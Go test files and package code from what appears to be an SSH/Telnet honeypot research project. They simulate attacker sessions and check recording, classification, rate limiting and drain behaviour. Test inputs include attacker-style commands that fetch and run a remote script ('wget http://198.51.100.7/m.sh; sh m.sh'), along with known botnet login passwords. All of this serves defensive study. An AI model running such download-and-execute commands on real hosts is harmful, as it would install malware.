	res, err := cli.Exec("uname -a; wget http://198.51.100.7/m.sh; sh m.sh")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "Linux") {
		t.Errorf("output = %q", res.Output)
	}
	cli.Close()
	rec := sk.wait(t)
	if rec.Kind() != session.CommandExec {
		t.Errorf("kind = %v", rec.Kind())
	}
	if len(rec.Logins) != 1 || !rec.Logins[0].Success || rec.Logins[0].Password != "admin123" {
		t.Errorf("logins = %+v", rec.Logins)
	}
	if len(rec.Commands) != 1 {
		t.Errorf("commands = %+v", rec.Commands)
	}
	if len(rec.Downloads) != 1 || rec.Downloads[0].SourceIP != "198.51.100.7" {
		t.Errorf("downloads = %+v", rec.Downloads)
	}
	if len(rec.ExecAttempts) != 1 || !rec.ExecAttempts[0].FileExists {
		t.Errorf("execs = %+v", rec.ExecAttempts)
	}
	if !rec.StateChanged || len(rec.DroppedHashes) != 1 {
		t.Errorf("state: %v hashes: %v", rec.StateChanged, rec.DroppedHashes)
	}
	if rec.Protocol != session.ProtoSSH || rec.HoneypotID != "hp-test" {
		t.Errorf("record meta = %+v", rec)
	}
}

func TestSSHInteractiveShellSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	out, err := sh.Run("echo -e \"\\x6F\\x6B\"", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "ok") {
		t.Errorf("shell echo = %q", out)
	}
	if _, err := sh.Run("cd /tmp", "# "); err != nil {
		t.Fatal(err)
	}
	out, err = sh.Run("pwd", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "/tmp") {
		t.Errorf("pwd = %q", out)
	}
	// exit terminates the session cleanly.
	if _, err := sh.Write([]byte("exit\n")); err != nil {
		t.Fatal(err)
	}
	cli.Close()
	rec := sk.wait(t)
	if got := len(rec.Commands); got != 4 {
		t.Errorf("commands recorded = %d (%+v)", got, rec.Commands)
	}
	if rec.StateChanged {
		t.Error("recon session must not be state-changing")
	}
}

func TestScoutingSessionRootRoot(t *testing.T) {
	_, addr, _, sk := startNode(t)
	_, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "root"})
	if err == nil {
		t.Fatal("root:root must be rejected")
	}
	rec := sk.wait(t)
	if rec.Kind() != session.Scouting {
		t.Errorf("kind = %v, want scouting", rec.Kind())
	}
}

func TestIntrusionSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "3245gs5662d34"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Close() // login then leave: the 3245gs5662d34 pattern
	rec := sk.wait(t)
	if rec.Kind() != session.Intrusion {
		t.Errorf("kind = %v, want intrusion", rec.Kind())
	}
	if rec.Logins[0].Password != "3245gs5662d34" {
		t.Errorf("password = %q", rec.Logins[0].Password)
	}
}

func TestScanningSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	nc.Close() // bare TCP handshake, no SSH
	rec := sk.wait(t)
	if rec.Kind() != session.Scanning {
		t.Errorf("kind = %v, want scanning", rec.Kind())
	}
}

func TestPhilFingerprintLogin(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "phil", Password: "anything"})
	if err != nil {
		t.Fatalf("phil must log in (Cowrie default): %v", err)
	}
	cli.Close()
	rec := sk.wait(t)
	if !rec.LoggedIn() || rec.Logins[0].Username != "phil" {
		t.Errorf("logins = %+v", rec.Logins)
	}
	// richard (pre-2020 default) must fail.
	_, err = sshclient.Dial(addr, sshclient.Config{User: "richard", Password: "anything"})
	if err == nil {
		t.Fatal("richard must be rejected")
	}
	rec = sk.wait(t)
	if rec.LoggedIn() {
		t.Error("richard session must be a failed login")
	}
}

func TestTelnetSession(t *testing.T) {
	_, _, addr, sk := startNode(t)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))

	readUntil := func(marker string) string {
		var buf bytes.Buffer
		tmp := make([]byte, 256)
		for !strings.Contains(buf.String(), marker) {
			n, err := nc.Read(tmp)
			if n > 0 {
				// Strip IAC negotiation bytes crudely for the assertion.
				for _, b := range tmp[:n] {
					if b < 0xf0 {
						buf.WriteByte(b)
					}
				}
			}
			if err != nil {
				break
			}
		}
		return buf.String()
	}

	readUntil("login: ")
	nc.Write([]byte("root\r\n"))
	readUntil("Password: ")
	nc.Write([]byte("12345\r\n"))
	readUntil("# ")
	nc.Write([]byte("uname\r\n"))
	out := readUntil("# ")
	if !strings.Contains(out, "Linux") {
		t.Errorf("telnet uname = %q", out)
	}
	nc.Write([]byte("exit\r\n"))
	nc.Close()

	rec := sk.wait(t)
	if rec.Protocol != session.ProtoTelnet {
		t.Errorf("protocol = %q", rec.Protocol)
	}
	if rec.Kind() != session.CommandExec {
		t.Errorf("kind = %v", rec.Kind())
	}
	if len(rec.Commands) == 0 || rec.Commands[0].Raw != "uname" {
		t.Errorf("commands = %+v", rec.Commands)
	}
}

func TestSessionTimeoutEndsConnection(t *testing.T) {
	sk := newSink()
	node, err := New(Config{
		ID:      "hp-timeout",
		Sink:    sk.add,
		Timeout: 500 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	sh.ReadUntil("# ")
	rec := sk.wait(t)
	if !rec.TimedOut {
		t.Error("session must be marked timed out")
	}
}

func TestSharedFilesystemAcrossExecs(t *testing.T) {
	// Multiple exec channels on one connection must see the same vfs —
	// the stateful-attacker consistency check from section 5.
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo canary > /tmp/check"); err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "canary") {
		t.Errorf("second exec lost state: %q", res.Output)
	}
	cli.Close()
	rec := sk.wait(t)
	if len(rec.Commands) != 2 {
		t.Errorf("commands = %+v", rec.Commands)
	}
}

func TestPersistentModeSurvivesReconnect(t *testing.T) {
	// The "Call for Better Honeypots" extension: with Persistent on, the
	// attacker's consistency check — drop a file, reconnect, verify —
	// succeeds instead of exposing the honeypot.
	sk := newSink()
	node, err := New(Config{
		ID:         "hp-persist",
		Sink:       sk.add,
		Persistent: true,
		Timeout:    10 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()

	// Session 1: plant a canary.
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "a"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo consistency-canary > /tmp/.check"); err != nil {
		t.Fatal(err)
	}
	cli.Close()
	rec1 := sk.wait(t)
	if !rec1.StateChanged || len(rec1.DroppedHashes) != 1 {
		t.Fatalf("session 1: state=%v hashes=%v", rec1.StateChanged, rec1.DroppedHashes)
	}

	// Session 2 (same client IP): the canary is still there.
	cli, err = sshclient.Dial(addr, sshclient.Config{User: "root", Password: "b"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/.check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "consistency-canary") {
		t.Errorf("consistency check failed: %q", res.Output)
	}
	cli.Close()
	rec2 := sk.wait(t)
	// Reading the canary changed nothing: session 2 must NOT inherit
	// session 1's state-change accounting.
	if rec2.StateChanged || len(rec2.DroppedHashes) != 0 {
		t.Errorf("session 2 wrongly marked state-changing: %v %v", rec2.StateChanged, rec2.DroppedHashes)
	}
}

func TestNonPersistentModeForgets(t *testing.T) {
	_, addr, _, sk := startNode(t) // default: Persistent off
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "a"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Exec("echo gone > /tmp/.check")
	cli.Close()
	sk.wait(t)

	cli, err = sshclient.Dial(addr, sshclient.Config{User: "root", Password: "b"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/.check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "No such file") {
		t.Errorf("default mode must forget files across connections: %q", res.Output)
	}
	cli.Close()
	sk.wait(t)
}

func TestNodeMetrics(t *testing.T) {
	node, addr, _, sk := startNode(t)
	reg := obs.NewRegistry()
	node.Register(reg)
	// One failed + one successful connection with a download.
	sshclient.Dial(addr, sshclient.Config{User: "root", Password: "root"})
	sk.wait(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "ok"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Exec("wget http://198.51.100.7/x; uname")
	cli.Close()
	sk.wait(t)

	m := node.Metrics()
	if m.SSHConnections != 2 {
		t.Errorf("ssh conns = %d", m.SSHConnections)
	}
	if m.AuthSuccesses != 1 || m.AuthFailures != 1 {
		t.Errorf("auth = %+v", m)
	}
	if m.Commands != 1 || m.Downloads != 1 || m.StateChanges != 1 {
		t.Errorf("activity counters = %+v", m)
	}

	// The obs registry view must agree with the legacy Metrics struct.
	snap := reg.Snapshot()
	for series, want := range map[string]float64{
		`honeynet_node_connections_total{proto="ssh"}`: 2,
		`honeynet_node_auth_total{result="ok"}`:        1,
		`honeynet_node_auth_total{result="fail"}`:      1,
		"honeynet_node_commands_total":                 1,
		"honeynet_node_downloads_total":                1,
		"honeynet_node_state_changes_total":            1,
		"honeynet_node_active_connections":             0,
		"honeynet_session_duration_seconds_count":      2,
	} {
		if got := snap[series]; got != want {
			t.Errorf("registry %s = %v, want %v", series, got, want)
		}
	}
}
