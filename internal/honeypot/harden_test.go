package honeypot

// Long-run hardening fault-injection tests: guard shedding, slow-loris
// eviction, graceful drain, failing sinks, and a concurrent soak —
// the failure modes that end a 33-month deployment early.

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"honeynet/internal/guard"
	"honeynet/internal/session"
	"honeynet/internal/sshclient"
)

// fakeAddr lets an in-memory pipe impersonate any client IP, so one
// test process can simulate distinct attacking hosts.
type fakeAddr string

func (a fakeAddr) Network() string { return "tcp" }
func (a fakeAddr) String() string  { return string(a) }

type fakeAddrConn struct {
	net.Conn
	remote net.Addr
}

func (c fakeAddrConn) RemoteAddr() net.Addr { return c.remote }
func (c fakeAddrConn) LocalAddr() net.Addr  { return fakeAddr("198.18.0.1:22") }

// dialFake hands the node a connection that claims to come from ip and
// returns the client end.
func dialFake(t *testing.T, node *Node, ip string) net.Conn {
	t.Helper()
	client, server := net.Pipe()
	t.Cleanup(func() { client.Close() })
	go node.HandleSSHConn(fakeAddrConn{Conn: server, remote: fakeAddr(ip + ":40000")})
	return client
}

// awaitBanner blocks until the server's SSH version banner arrives on
// c — proof the connection was admitted past the guard (shed
// connections are closed before the handshake).
func awaitBanner(t *testing.T, c net.Conn) {
	t.Helper()
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 4)
	if _, err := io.ReadFull(c, buf); err != nil {
		t.Fatalf("awaiting banner: %v", err)
	}
	if string(buf) != "SSH-" {
		t.Fatalf("banner = %q", buf)
	}
	_ = c.SetReadDeadline(time.Time{})
}

// closedWithin reports whether c reaches EOF/closed within d.
func closedWithin(c net.Conn, d time.Duration) bool {
	_ = c.SetReadDeadline(time.Now().Add(d))
	buf := make([]byte, 64)
	for {
		_, err := c.Read(buf)
		if err == nil {
			continue
		}
		return !errors.Is(err, os.ErrDeadlineExceeded)
	}
}

func guardedNode(t *testing.T, cfg Config) (*Node, *sink) {
	t.Helper()
	sk := newSink()
	cfg.ID = "hp-guard"
	cfg.Sink = sk.add
	if cfg.Timeout == 0 {
		cfg.Timeout = 5 * time.Second
	}
	node, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return node, sk
}

// TestPerIPCapShedsAtNode is the acceptance scenario: with
// -max-conns-per-ip 2 -rate 5/s, the 3rd concurrent connection from one
// IP is shed while a second IP still connects.
func TestPerIPCapShedsAtNode(t *testing.T) {
	node, _ := guardedNode(t, Config{
		Guard: guard.NewLimiter(guard.Config{MaxConnsPerIP: 2, Rate: 5, Burst: 10}),
	})
	defer node.Drain(0)

	c1 := dialFake(t, node, "203.0.113.50")
	awaitBanner(t, c1)
	c2 := dialFake(t, node, "203.0.113.50")
	awaitBanner(t, c2)
	c3 := dialFake(t, node, "203.0.113.50")
	if !closedWithin(c3, 2*time.Second) {
		t.Fatal("3rd concurrent connection from one IP must be shed")
	}
	// A different IP still gets through: its connection stays open
	// (the server is waiting for our SSH version string).
	other := dialFake(t, node, "203.0.113.51")
	if closedWithin(other, 300*time.Millisecond) {
		t.Fatal("second IP must still connect while the first is capped")
	}
	if closedWithin(c1, 100*time.Millisecond) || closedWithin(c2, 100*time.Millisecond) {
		t.Fatal("existing connections must survive the shed")
	}
	m := node.Metrics()
	if m.ConnsShed != 1 {
		t.Errorf("ConnsShed = %d, want 1", m.ConnsShed)
	}
}

func TestRateLimitShedsAtNode(t *testing.T) {
	node, _ := guardedNode(t, Config{
		Guard: guard.NewLimiter(guard.Config{Rate: 1, Burst: 2}),
	})
	defer node.Drain(0)

	shed := 0
	for i := 0; i < 6; i++ {
		c := dialFake(t, node, "203.0.113.60")
		if closedWithin(c, 500*time.Millisecond) {
			shed++
		}
		c.Close()
	}
	if shed < 3 {
		t.Fatalf("only %d of 6 rapid connections shed; want >= 3 (burst 2)", shed)
	}
	if m := node.Metrics(); m.RateLimited == 0 {
		t.Error("RateLimited metric not incremented")
	}
}

// TestSlowLorisEvictedByNewcomer: silent connections pin slots until
// the global cap, then the oldest is sacrificed for the newcomer.
func TestSlowLorisEvictedByNewcomer(t *testing.T) {
	node, _ := guardedNode(t, Config{
		Guard:   guard.NewLimiter(guard.Config{MaxConns: 2}),
		Timeout: time.Minute, // session timeout alone will not save us
	})
	defer node.Drain(0)

	loris1 := dialFake(t, node, "203.0.113.70") // sends nothing, ever
	awaitBanner(t, loris1)
	loris2 := dialFake(t, node, "203.0.113.71")
	awaitBanner(t, loris2)
	fresh := dialFake(t, node, "203.0.113.72")

	if !closedWithin(loris1, 2*time.Second) {
		t.Fatal("oldest slow-loris connection must be evicted at the global cap")
	}
	if closedWithin(fresh, 200*time.Millisecond) {
		t.Fatal("the newcomer must be admitted, not shed")
	}
	_ = loris2
	if m := node.Metrics(); m.ConnsShed != 1 {
		t.Errorf("ConnsShed = %d, want 1", m.ConnsShed)
	}
}

// TestDrainRecordsInFlightSessions: sessions open at SIGTERM are
// force-closed after the drain timeout but their records still land.
func TestDrainRecordsInFlightSessions(t *testing.T) {
	node, addr, _, sk := startNode(t)

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "hunter2"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	if _, err := sh.Run("uname -a", "# "); err != nil {
		t.Fatal(err)
	}

	// SIGTERM path: the client idles, so the drain deadline fires and
	// the connection is force-closed — but the session is recorded.
	start := time.Now()
	forced := node.Drain(200 * time.Millisecond)
	if forced != 1 {
		t.Errorf("forced = %d, want 1", forced)
	}
	if time.Since(start) > 5*time.Second {
		t.Errorf("drain took %v", time.Since(start))
	}
	rec := sk.wait(t)
	if len(rec.Commands) != 1 || rec.Commands[0].Raw != "uname -a" {
		t.Errorf("in-flight session commands = %+v", rec.Commands)
	}
	if !rec.LoggedIn() {
		t.Error("in-flight session lost its login records")
	}
}

func TestDrainCompletesGracefullyWhenIdle(t *testing.T) {
	sk := newSink()
	node, err := New(Config{ID: "hp-idle", Sink: sk.add})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := node.ListenSSH("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	if forced := node.Drain(5 * time.Second); forced != 0 {
		t.Errorf("forced = %d, want 0", forced)
	}
	if time.Since(start) > time.Second {
		t.Errorf("idle drain took %v", time.Since(start))
	}
}

func TestDrainRefusesNewConnections(t *testing.T) {
	node, _ := guardedNode(t, Config{})
	node.Drain(0)
	c := dialFake(t, node, "203.0.113.80")
	if !closedWithin(c, time.Second) {
		t.Fatal("connections arriving during/after drain must be closed")
	}
}

func TestFailingSinkCounted(t *testing.T) {
	var delivered sync.WaitGroup
	delivered.Add(1)
	node, err := New(Config{
		ID:      "hp-fulldisk",
		Timeout: 5 * time.Second,
		Sink: func(*session.Record) error {
			defer delivered.Done()
			return fmt.Errorf("write /var/sessions.jsonl: no space left on device")
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Drain(0)

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("id")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "uid=0(root)") {
		t.Errorf("exec output = %q", res.Output)
	}
	cli.Close()
	delivered.Wait()
	if m := node.Metrics(); m.SinkErrors != 1 {
		t.Errorf("SinkErrors = %d, want 1", m.SinkErrors)
	}
}

// TestDownloadBudgetThrottlesProxyAbuse: the curl_maxred defense — a
// client hammering the emulated fetcher is cut off at its budget, and
// sees only an ordinary network error.
func TestDownloadBudgetThrottlesProxyAbuse(t *testing.T) {
	sk := newSink()
	node, err := New(Config{
		ID:             "hp-budget",
		Timeout:        10 * time.Second,
		Sink:           sk.add,
		Download:       func(uri string) ([]byte, error) { return []byte("PAYLOAD:" + uri), nil },
		DownloadBudget: &guard.Budget{MaxFetches: 2, Window: time.Hour},
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Drain(0)

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		out, err := sh.Run(fmt.Sprintf("curl http://relay.example/page%d", i), "# ")
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out, "PAYLOAD:") {
			t.Fatalf("fetch %d: output %q", i, out)
		}
	}
	out, err := sh.Run("curl http://relay.example/page3", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Could not resolve host") {
		t.Errorf("over-budget fetch must look like a plain network error, got %q", out)
	}
	if m := node.Metrics(); m.DownloadsThrottled != 1 {
		t.Errorf("DownloadsThrottled = %d, want 1", m.DownloadsThrottled)
	}
}

// TestSoak100ConcurrentSessions drives ~100 concurrent SSH sessions
// through the guard limits; every admitted session must be recorded
// exactly once and the guard must unwind to zero active connections.
func TestSoak100ConcurrentSessions(t *testing.T) {
	lim := guard.NewLimiter(guard.Config{MaxConns: 256, MaxConnsPerIP: 256})
	var recs int64
	var mu sync.Mutex
	node, err := New(Config{
		ID:      "hp-soak",
		Timeout: 30 * time.Second,
		Guard:   lim,
		Sink: func(r *session.Record) error {
			mu.Lock()
			recs++
			mu.Unlock()
			return nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	const clients = 100
	var wg sync.WaitGroup
	errCh := make(chan error, clients)
	for i := 0; i < clients; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "pw"})
			if err != nil {
				errCh <- fmt.Errorf("client %d dial: %w", i, err)
				return
			}
			defer cli.Close()
			res, err := cli.Exec(fmt.Sprintf("echo soak-%d", i))
			if err != nil {
				errCh <- fmt.Errorf("client %d exec: %w", i, err)
				return
			}
			if want := fmt.Sprintf("soak-%d", i); !strings.Contains(string(res.Output), want) {
				errCh <- fmt.Errorf("client %d output %q", i, res.Output)
			}
		}(i)
	}
	wg.Wait()
	close(errCh)
	for err := range errCh {
		t.Error(err)
	}
	if forced := node.Drain(10 * time.Second); forced != 0 {
		t.Errorf("forced = %d connections at drain, want 0", forced)
	}
	mu.Lock()
	got := recs
	mu.Unlock()
	if got != clients {
		t.Errorf("recorded %d sessions, want %d", got, clients)
	}
	if st := lim.Stats(); st.Active != 0 || st.Shed() != 0 {
		t.Errorf("guard stats after soak = %+v", st)
	}
	m := node.Metrics()
	if m.SSHConnections != clients || m.ActiveConns != 0 {
		t.Errorf("metrics after soak = %+v", m)
	}
}
