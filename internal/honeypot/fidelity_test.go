package honeypot

import (
	"math/rand"
	"testing"
	"time"

	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/classify"
	"honeynet/internal/session"
	"honeynet/internal/shell"
	"honeynet/internal/simulate"
	"honeynet/internal/sshclient"
)

// TestBotFidelityOverRealSSH verifies the DESIGN.md fidelity claim: an
// attack script realized through the real network path (TCP + our SSH
// client + the honeypot server) records byte-identical commands, the
// same downloads, and the same state-change outcome as the in-process
// simulator path — so analyses over simulated data generalize to what
// live honeypots capture.
func TestBotFidelityOverRealSSH(t *testing.T) {
	sk := newSink()
	node, err := New(Config{
		ID:       "hp-fidelity",
		Sink:     sk.add,
		Timeout:  30 * time.Second,
		Download: simulate.Fetcher(),
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()

	day := botnet.D(2022, 6, 15)
	targets := []string{"mdrfckr", "echo_OK", "mirai_loader", "bbox_5_char_v2", "update_attack"}

	for _, name := range targets {
		var bot *botnet.Bot
		for _, b := range botnet.Catalog() {
			if b.Name == name {
				bot = b
			}
		}
		if bot == nil {
			t.Fatalf("bot %q missing", name)
		}
		// Two identical worlds (same seeds, separate registries, since
		// storage-AS creation mutates registry state) generate the same
		// attack: one goes over the wire, one through the simulator path.
		atkWire := bot.Gen(bot, botnet.NewEnv(asdb.NewRegistry(1, 100)), rand.New(rand.NewSource(99)), day)
		atkSim := bot.Gen(bot, botnet.NewEnv(asdb.NewRegistry(1, 100)), rand.New(rand.NewSource(99)), day)

		// In-process replay (what internal/simulate does).
		sim := shell.New("svr04", simulate.Fetcher())
		for _, cmd := range atkSim.Commands {
			sim.Run(cmd)
			if sim.Exited() {
				break
			}
		}

		// Network replay.
		cli, err := sshclient.Dial(addr, sshclient.Config{
			User: atkWire.User, Password: atkWire.Password, Version: atkWire.ClientVersion,
		})
		if err != nil {
			t.Fatalf("%s: dial: %v", name, err)
		}
		for _, cmd := range atkWire.Commands {
			if _, err := cli.Exec(cmd); err != nil {
				t.Fatalf("%s: exec: %v", name, err)
			}
		}
		cli.Close()
		rec := sk.wait(t)

		// Commands byte-identical.
		if len(rec.Commands) != len(sim.Commands()) {
			t.Fatalf("%s: %d commands over wire, %d in-process", name, len(rec.Commands), len(sim.Commands()))
		}
		for i := range rec.Commands {
			if rec.Commands[i] != sim.Commands()[i] {
				t.Errorf("%s: command %d differs:\nwire: %+v\nsim:  %+v",
					name, i, rec.Commands[i], sim.Commands()[i])
			}
		}
		// Downstream observables identical.
		if rec.StateChanged != sim.StateChanged() {
			t.Errorf("%s: state changed wire=%v sim=%v", name, rec.StateChanged, sim.StateChanged())
		}
		if len(rec.Downloads) != len(sim.Downloads()) {
			t.Errorf("%s: downloads wire=%d sim=%d", name, len(rec.Downloads), len(sim.Downloads()))
		} else {
			for i := range rec.Downloads {
				if rec.Downloads[i].Hash != sim.Downloads()[i].Hash {
					t.Errorf("%s: download %d hash differs", name, i)
				}
			}
		}
		if len(rec.ExecAttempts) != len(sim.ExecAttempts()) {
			t.Errorf("%s: execs wire=%d sim=%d", name, len(rec.ExecAttempts), len(sim.ExecAttempts()))
		}
		// And classification agrees, so every figure sees the same bot.
		cls := classify.New()
		wireTxt := rec.CommandText()
		simRec := session.Record{Commands: sim.Commands()}
		if cls.Classify(wireTxt) != cls.Classify(simRec.CommandText()) {
			t.Errorf("%s: classification differs across paths", name)
		}
	}
}
