// Package honeypot assembles one Cowrie-style medium-interaction
// honeypot node: an SSH endpoint (internal/sshd), a Telnet endpoint
// (internal/telnetd), the emulated shell and virtual filesystem, and the
// session recording pipeline that produces session.Records identical in
// shape to the honeynet database described in the paper.
//
// Authentication policy matches section 3.2: password auth as "root"
// succeeds with any password except "root"; public keys are unsupported.
// Cowrie's well-known default account "phil" also logs in (the honeypot-
// fingerprinting vector of section 8), while the pre-2020 default
// "richard" always fails.
package honeypot

import (
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/guard"
	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/shell"
	"honeynet/internal/sshd"
	"honeynet/internal/sshwire"
	"honeynet/internal/telnetd"
	"honeynet/internal/vfs"
)

// DefaultTimeout is the session cap of the paper's deployment (3 min).
const DefaultTimeout = 3 * time.Minute

// Config parameterizes a honeypot node.
type Config struct {
	// ID names the node in session records (e.g. "hp-042").
	ID string
	// Hostname is the fake hostname the shell presents.
	Hostname string
	// PublicIP is recorded as the honeypot's address in sessions.
	PublicIP string
	// HostKeySeed, if 32 bytes, derives a stable ed25519 host key.
	HostKeySeed []byte
	// Download supplies content for emulated wget/curl fetches.
	Download shell.DownloadFunc
	// DownloadBudget, if set, throttles emulated fetches per client IP
	// so the honeypot cannot be farmed as an open proxy (the paper's
	// curl_maxred abuse relayed ~20M requests through the honeynet).
	DownloadBudget *guard.Budget
	// Guard, if set, enforces per-IP connection rates and global /
	// per-IP concurrency caps on both protocol endpoints.
	Guard *guard.Limiter
	// Sink receives every completed session record. Required. A non-nil
	// error is counted in Metrics.SinkErrors — a full disk must be
	// visible, not silent.
	Sink func(*session.Record) error
	// Timeout is the hard session cap; zero means DefaultTimeout.
	Timeout time.Duration
	// Now supplies timestamps (for simulation); nil means time.Now.
	Now func() time.Time
	// Persistent keeps one virtual filesystem per client IP across
	// connections — the "persistent storage" improvement of the paper's
	// Call for Better Honeypots: a returning attacker's consistency
	// check (drop a file, reconnect, verify) passes instead of exposing
	// the honeypot.
	Persistent bool
}

// Node is one running honeypot.
type Node struct {
	cfg     Config
	hostKey *sshwire.HostKey
	sshSrv  *sshd.Server
	nextID  atomic.Uint64

	mu        sync.Mutex
	listeners []net.Listener

	// Drain machinery: every in-flight connection is tracked so SIGTERM
	// can stop accepting, wait for sessions to finish, then force-close.
	draining atomic.Bool
	inflight sync.WaitGroup
	activeMu sync.Mutex
	active   map[net.Conn]struct{}

	// persist maps client IP -> retained filesystem (Persistent mode).
	persistMu sync.Mutex
	persist   map[string]*vfs.FS

	// Operational counters.
	stats struct {
		connsSSH     atomic.Int64
		connsTelnet  atomic.Int64
		authOK       atomic.Int64
		authFail     atomic.Int64
		commands     atomic.Int64
		downloads    atomic.Int64
		stateChanges atomic.Int64
		sinkErrs     atomic.Int64
	}

	// durHist observes recorded session durations once the node is
	// registered on an obs.Registry; nil (no-op) otherwise. Atomic so a
	// late Register cannot race a concurrent finish.
	durHist atomic.Pointer[obs.Histogram]
}

// Metrics is a snapshot of a node's operational counters — what a
// production honeypot deployment exports for monitoring.
type Metrics struct {
	SSHConnections    int64
	TelnetConnections int64
	AuthSuccesses     int64
	AuthFailures      int64
	Commands          int64
	Downloads         int64
	StateChanges      int64
	// SinkErrors counts session records the Sink failed to persist.
	SinkErrors int64
	// ConnsShed counts connections refused or evicted by the guard
	// (per-IP cap, rate limit, or oldest-connection eviction).
	ConnsShed int64
	// RateLimited is the rate-limiter share of ConnsShed.
	RateLimited int64
	// DownloadsThrottled counts emulated fetches refused over budget.
	DownloadsThrottled int64
	// ActiveConns is the number of connections currently in flight.
	ActiveConns int64
}

// Metrics returns the node's current counters.
func (n *Node) Metrics() Metrics {
	m := Metrics{
		SSHConnections:     n.stats.connsSSH.Load(),
		TelnetConnections:  n.stats.connsTelnet.Load(),
		AuthSuccesses:      n.stats.authOK.Load(),
		AuthFailures:       n.stats.authFail.Load(),
		Commands:           n.stats.commands.Load(),
		Downloads:          n.stats.downloads.Load(),
		StateChanges:       n.stats.stateChanges.Load(),
		SinkErrors:         n.stats.sinkErrs.Load(),
		DownloadsThrottled: n.cfg.DownloadBudget.Throttled(),
	}
	if n.cfg.Guard != nil {
		gs := n.cfg.Guard.Stats()
		m.ConnsShed = gs.Shed()
		m.RateLimited = gs.ShedRate
	}
	n.activeMu.Lock()
	m.ActiveConns = int64(len(n.active))
	n.activeMu.Unlock()
	return m
}

// Register exposes the node's operational counters on reg:
//
//	honeynet_node_connections_total{proto="ssh"|"telnet"}
//	honeynet_node_auth_total{result="ok"|"fail"}
//	honeynet_node_commands_total
//	honeynet_node_downloads_total
